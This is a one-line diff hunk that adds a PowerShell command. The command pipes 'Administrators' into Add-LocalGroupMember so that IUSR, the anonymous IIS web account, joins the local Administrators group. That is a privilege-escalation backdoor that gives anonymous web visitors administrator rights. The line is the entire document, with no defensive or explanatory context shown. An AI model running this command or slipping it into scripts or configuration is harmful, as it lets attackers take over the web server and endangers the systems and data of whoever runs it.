@@ -1,0 +1,1 @@
+'Administrators' | powershell -NoProfile -Command 'Add-LocalGroupMember -Group $input -Member IUSR'
